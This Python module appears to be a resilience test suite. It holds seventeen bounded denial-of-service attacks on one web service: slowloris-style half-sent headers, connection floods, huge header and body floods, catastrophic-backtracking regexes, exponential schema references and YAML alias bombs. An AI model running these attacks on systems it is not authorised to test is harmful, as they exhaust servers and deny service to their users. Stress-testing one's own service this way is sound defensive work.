"""The attacks. Each is bounded in count and time, and goes to the instance that it is given and nowhere else."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from functools import cached_property
from typing import Any
from urllib.parse import urlsplit

import httpx

MEBIBYTE = 1 << 20
_PATIENCE = 60.0


@dataclass
class Target:
    """An instance, and what the attacker's tenant has: an owner, an operator and a viewer (their tokens)."""

    url: str
    owner: str
    operator: str
    viewer: str

    @cached_property
    def client(self) -> httpx.Client:
        """One for all threads: making one costs more than most requests."""
        return httpx.Client(timeout=_PATIENCE, limits=httpx.Limits(max_connections=100))

    @property
    def address(self) -> tuple[str, int]:
        parts = urlsplit(self.url)
        return parts.hostname or "", parts.port or 0

    def ask(self, token: str, method: str, path: str, **how: Any) -> str:
        """The status, or what went wrong."""
        headers = ({"Authorization": f"Bearer {token}"} if token else {}) | how.pop("headers", {})
        try:
            answer = self.client.request(method, f"{self.url}{path}", headers=headers, **how)
        except httpx.HTTPError as error:
            return type(error).__name__
        return str(answer.status_code)

    def at_once(self, count: int, ask: Callable[[int], str]) -> list[str]:
        """So many requests side by side."""
        with ThreadPoolExecutor(count) as threads:
            return list(threads.map(ask, range(count)))


def _orders(count: int, globs: list[str]) -> str:
    lines = ["version: 1", "orders:"]
    for number in range(count):
        values = ", ".join(json.dumps(glob.replace("@", str(number))) for glob in globs)
        lines.append(f"- name: o{number}\n  match: {{message: [{values}]}}\n  action: log_only\n  approval: auto")
    return "\n".join(lines)


def orders_that_are_hard_to_compare(target: Target) -> list[str]:
    """A viewer's standing orders, each of which must be compared with all before it."""
    texts = [
        _orders(500, ["a@*", "*b@", "c@*d", "?e@*"]),
        _orders(500, ["*a*a*a@*", "*a*a@*a*", "a*a*a*a@", "*a@*a*a*a"]),
        _orders(480, ["*a?" + "a?" * 80 + "@", "*b?" + "b?" * 80 + "@", "*@", "@*"]),
        "version: 1\norders: " + "[" * 100_000,
        "a: &a [x, x]\n" + "\n".join(f"b{n}: &b{n} [*a, *a, *a, *a, *a, *a, *a, *a]" for n in range(2000)),
    ]
    return target.at_once(
        15, lambda n: target.ask(target.viewer, "POST", "/api/v1/standing-orders/check", json={"text": texts[n % 5]})
    )


def schemas_that_take_for_ever(target: Target) -> list[str]:
    """Many references, alternatives of alternatives, and patterns that look around."""
    big = {"properties": {f"p{n}": {"type": "string", "minLength": n % 7} for n in range(2000)}}
    wide = {"$defs": {f"d{n}": big for n in range(2)}, "allOf": [{"$ref": "#/$defs/d0"}] * 90}
    nested: dict[str, Any] = {"properties": {f"p{n}": {"type": "string"} for n in range(2000)}}
    for _ in range(28):
        nested = {"properties": {"a": nested}}
    nested["allOf"] = [{"$ref": "#" + "/properties/a" * n} for n in range(28)]
    doubling: dict[str, Any] = {"d40": {"required": ["z"]}}
    for number in range(40):
        ref = {"$ref": f"#/$defs/d{number + 1}"}
        doubling[f"d{number}"] = {"anyOf": [{"not": ref}, ref]}
    schemas = [
        wide,
        nested,
        {"$defs": doubling, "$ref": "#/$defs/d0"},
        {"properties": {"x": {"pattern": "(?=(a+)+$)b"}}},
        {"properties": {"x": {"pattern": "(a+)+$"}}},
    ]
    body = {"payload": {"x": "a" * 100_000 + "!"}, "required_fields": []}
    path = "/agent/validate-payload/"
    return target.at_once(20, lambda n: target.ask(target.viewer, "POST", path, json=body | {"schema": schemas[n % 5]}))


def globs_against_large_events(target: Target) -> list[str]:
    """As many wildcards as the orders may have, against events of 8 KB that nearly fit."""
    sent = []
    for globs in ([f"*a?{'a?' * 88}b@{n}" for n in range(4)], [f"*a?a?a?*a?ab@{n}" for n in range(4)]):
        text = _orders(100, globs)
        sent.append(target.ask(target.owner, "PUT", "/api/v1/standing-orders", json={"text": text}))
    events = [{"message": "a" * 8190, "source": "x"}] * 5
    path = "/api/v1/events"
    sent += target.at_once(12, lambda n: target.ask(target.operator, "POST", path, json=events * (1 if n % 2 else 40)))
    return [*sent, target.ask(target.owner, "PUT", "/api/v1/standing-orders", json={"text": "version: 1\norders: []"})]


@contextmanager
def _open(target: Target, count: int, first: bytes) -> Iterator[list[socket.socket]]:
    sockets: list[socket.socket] = []
    try:
        for _ in range(count):
            with suppress(OSError):
                one = socket.create_connection(target.address, timeout=3)
                sockets.append(one)
                one.sendall(first)
        yield sockets
    finally:
        for one in sockets:
            one.close()


def _still_open(sockets: list[socket.socket]) -> int:
    count = 0
    for one in sockets:
        one.setblocking(False)
        try:
            while one.recv(65_536):
                pass
        except BlockingIOError:
            count += 1
        except OSError:
            pass
    return count


def half_sent_headers(target: Target) -> list[str]:
    """1,100 connections whose headers never end."""
    with _open(target, 1100, b"GET /livez HTTP/1.1\r\nHost: x\r\nX-a: ") as sockets:
        time.sleep(15)
        return [f"{len(sockets)} opened, {_still_open(sockets)} held after 15 s"]


def idle_connections(target: Target) -> list[str]:
    """1,100 connections that asked once and stay."""
    with _open(target, 1100, b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n") as sockets:
        time.sleep(5)
        return [f"{len(sockets)} opened"]


def endless_headers(target: Target) -> list[str]:
    """Five connections with 300 MB of headers each, and five with a million small ones."""

    def send(number: int) -> str:
        with _open(target, 1, b"GET /livez HTTP/1.1\r\nHost: x\r\n") as (one,):
            line = b"H: " + b"a" * MEBIBYTE + b"\r\n" if number % 2 else b"a: b\r\n" * 10_000
            try:
                one.settimeout(10)
                for _ in range(300 if number % 2 else 100):
                    one.sendall(line)
                one.sendall(b"\r\n")
                return one.recv(12).decode().rpartition(" ")[2]
            except OSError:
                with suppress(OSError):
                    return one.recv(12).decode().rpartition(" ")[2] or "closed"
                return "closed"

    return target.at_once(10, send)


def unfinished_bodies(target: Target, token: str, count: int) -> list[str]:
    """Bodies of 16 MB of which the last bytes never come."""
    head = (
        f"POST /api/v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {16 * MEBIBYTE}\r\n\r\n"
    )
    with _open(target, count, head.encode()) as sockets:
        for one in sockets:
            one.settimeout(0.5)
            with suppress(OSError):
                for _ in range(15):
                    one.sendall(b"a" * MEBIBYTE)
        time.sleep(8)
        return [f"{_still_open(sockets)} of {len(sockets)} held"]


def unfinished_bodies_of_nobody(target: Target) -> list[str]:
    """With a token that is none."""
    return unfinished_bodies(target, "nonsense", 70)


def unfinished_bodies_of_an_operator(target: Target) -> list[str]:
    """With a good one."""
    return unfinished_bodies(target, target.operator, 40)


def lines_of_many_values(target: Target) -> list[str]:
    """16 MB with millions of values, as lines and as one array; and just below the bound, many at once."""
    line = b'{"message":"m","context":{"a":[' + b",".join([b"{}"] * 99_000) + b"]}}"
    count = (16 * MEBIBYTE - 1000) // (len(line) + 1)
    lines, array = b"\n".join([line] * count), b"[" + b",".join([line] * count) + b"]"
    below = b'{"message":"m","context":{"a":[' + b",".join([b"7"] * 190_000) + b"]}}"
    bodies = [
        (lines, "application/x-ndjson"),
        (lines, "text/plain"),
        (array, "application/json"),
        (below, "application/json"),
        (below, "application/x-ndjson"),
    ]

    def send(number: int) -> str:
        body, kind = bodies[number % 5]
        path, headers = "/api/v1/events?detail=none", {"Content-Type": kind}
        return target.ask(target.operator, "POST", path, content=body, headers=headers)

    return target.at_once(20, send)


def actions_of_a_paused_tenant(target: Target) -> list[str]:
    """Each waits for what will not be done."""
    target.ask(target.operator, "POST", "/api/v1/controls/pause", json={"scope": "tenant", "reason": "x"})

    def send(number: int) -> str:
        body = {"action": "log_only", "priority": 5, "event_type": "ignorable", "severity": "low"}
        return target.ask(target.operator, "POST", "/agent/execute-action/", json=body | {"message": f"m{number}"})

    sent = target.at_once(48, send)
    target.ask(target.operator, "POST", "/api/v1/controls/resume", json={"scope": "tenant"})
    return sent


def page_views(target: Target) -> list[str]:
    """400 pages of the console by one viewer."""
    signed_in = target.client.post(
        f"{target.url}/sign-in", data={"token": target.viewer}, headers={"Origin": target.url}
    )
    cookie = signed_in.headers["set-cookie"].split(";")[0]
    target.client.cookies.clear()
    with ThreadPoolExecutor(60) as threads:
        look = threads.map(lambda _: target.ask("", "GET", "/tasks", headers={"Cookie": cookie}), range(400))
        return list(look)


def requests_sent_ahead(target: Target) -> list[str]:
    """20,000 requests on one connection, none of whose answers is read."""
    ask = f"GET /api/v1/incidents HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {target.viewer}\r\n\r\n".encode()

    def send(_: int) -> str:
        with _open(target, 1, b"") as (one,):
            one.settimeout(5)
            try:
                one.sendall(ask * 20_000)
            except OSError:
                return "closed"
            return "taken"

    return target.at_once(10, send)


def endless_trailers(target: Target) -> list[str]:
    """Chunks of one byte with long extensions, and trailers without end."""
    head = (
        f"POST /api/v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {target.operator}\r\n"
        "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    ).encode()

    def send(number: int) -> str:
        with _open(target, 1, head) as (one,):
            one.settimeout(10)
            try:
                if number % 2:
                    one.sendall(b"2\r\n[]\r\n0\r\nX: ")
                for _ in range(100):
                    one.sendall(b"a" * MEBIBYTE if number % 2 else b"1;" + b"e" * MEBIBYTE + b"\r\n \r\n")
            except OSError:
                return "closed"
            return "taken"

    return target.at_once(8, send)


def unsigned_webhooks(target: Target) -> list[str]:
    """Bodies of 1 MiB whose signature must be looked at with every sender's secret."""
    for number in range(50):
        target.ask(target.owner, "POST", "/api/v1/webhooks", json={"kind": "user-signup", "name": f"w{number}"})
    signature = {"X-Opsteward-Signature": f"t={int(time.time())},v1=" + "0" * 64}

    def send(number: int) -> str:
        size = 1_048_000 if number % 2 else 60_000
        return target.ask("", "POST", "/webhook/user-signup", content=b"x" * size, headers=signature)

    return target.at_once(40, send)


def mappings_that_double(target: Target) -> list[str]:
    """A viewer tries an expression whose every part doubles what the one before gave."""
    body = {"body": {"a": "b"}, "shapes": [{"title": "|".join(["[@,@]"] * 60)}]}
    return target.at_once(12, lambda _: target.ask(target.viewer, "POST", "/api/v1/sources/preview", json=body))


def bodies_within_bodies(target: Target) -> list[str]:
    """Millions of values in texts that carry a body, times that are none, and objects without an end."""
    many = "[" + ",".join(["[]"] * 2_500_000) + "]"
    times = ("timestamp", "date", "createdat", "time", "ts")
    bodies = [
        json.dumps({"Type": "Notification", "Message": many}),
        json.dumps({"Records": [{"Sns": {"Message": many[:900_000] + "]"}} for _ in range(16)]}),
        json.dumps([{"title": "a b", **dict.fromkeys(times, f"12:34 {n} 1999 zz")} for n in range(10_000)]),
        json.dumps({f"a{n}": {f"b{m}": {} for m in range(500)} for n in range(380)}),
    ]

    def send(number: int) -> str:
        body = bodies[number % 4].encode()
        return target.ask(target.operator, "POST", "/api/v1/intake/cloudwatch", content=body)

    return target.at_once(16, send)


def pings_of_nobody(target: Target) -> list[str]:
    """Keys that no heartbeat has, without a credential."""
    return target.at_once(60, lambda number: target.ask("", "POST", f"/ping/{number:040}", content=b"x" * 100_000))


ATTACKS: tuple[Callable[[Target], list[str]], ...] = (
    orders_that_are_hard_to_compare,
    schemas_that_take_for_ever,
    globs_against_large_events,
    half_sent_headers,
    idle_connections,
    endless_headers,
    unfinished_bodies_of_nobody,
    unfinished_bodies_of_an_operator,
    lines_of_many_values,
    actions_of_a_paused_tenant,
    page_views,
    requests_sent_ahead,
    endless_trailers,
    unsigned_webhooks,
    mappings_that_double,
    bodies_within_bodies,
    pings_of_nobody,
)
